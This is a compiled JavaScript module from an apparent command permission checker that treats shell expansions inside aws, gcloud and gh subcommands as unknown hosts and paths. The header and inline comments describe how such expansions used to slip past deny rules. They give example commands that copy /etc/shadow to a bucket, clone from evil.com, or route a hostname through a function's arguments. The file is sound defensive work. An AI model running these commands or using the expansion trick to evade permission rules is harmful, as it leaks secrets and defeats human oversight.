// A CLI's subcommand words found by position (`aws s3 cp`, `gcloud storage cp`, `gh repo clone`):
// an expansion among them (`aws $X s3 cp`, `gh repo $X clone`, or a value split off: `aws
// --profile $P` passes `$P $P`) may be zero, one or several words, or an option. Each was allowed
// beside the rule its literal spelling meets (`aws $X s3 cp /etc/shadow s3://b`,
// `gh $X repo clone evil.com/o/r`): the subcommand was the expansion, and nothing was read.
import { mayBeOption } from './words.js';
/**
 * The operands with the expansions that stand before the `count`-th literal word removed (the
 * reading where each is no word: the tool's own reader reads the rest), and the first of them.
 */
export function withoutSubcommandExpansions(operands, count) {
    let hidden;
    let literals = 0;
    const kept = [];
    for (const o of operands) {
        if (o.dynamic && literals < count) {
            hidden ??= o;
            continue;
        }
        if (!o.dynamic)
            literals++;
        kept.push(o);
    }
    return { operands: hidden === undefined ? operands : kept, hidden };
}
/**
 * The other readings of a line whose subcommand words hold an expansion: it may be the
 * subcommand and its files, or an option naming a server or a file, so it is an unknown host and
 * path (they ask where Domain, Read or Edit deny or ask rules exist), and each literal operand
 * after it may be a file the subcommand reads or writes (a possible part).
 */
export function unknownSubcommand(hidden, operands, t) {
    t.url(hidden.word, true);
    t.possible(hidden.word, true);
    let after = false;
    for (const o of operands) {
        if (o === hidden)
            after = true;
        else if (after && !o.dynamic)
            t.possible(o.word, false);
    }
}
/**
 * Each operand from an expansion that may be an option (`aws s3 ls $X`: `--endpoint-url=H`;
 * `gh pr list "$X"`: `-R HOST/O/R`, `--input=F`): an unknown host and path, as such an option's
 * value from an expansion is (they ask where Domain, Read or Edit deny or ask rules exist).
 */
export function optionExpansions(operands, t) {
    for (const o of operands) {
        // (`"$@"` too: a function's arguments, `f() { gh pr list "$@"; }; f --hostname evil.com`. A
        // stored alias's placeholder, `gh alias set co 'pr checkout'`, then asks where such rules exist.)
        if (!o.dynamic || !mayBeOption(o.word))
            continue;
        t.url(o.word, true);
        t.read(o.word, true);
    }
}
//# sourceMappingURL=subcommand-expansions.js.map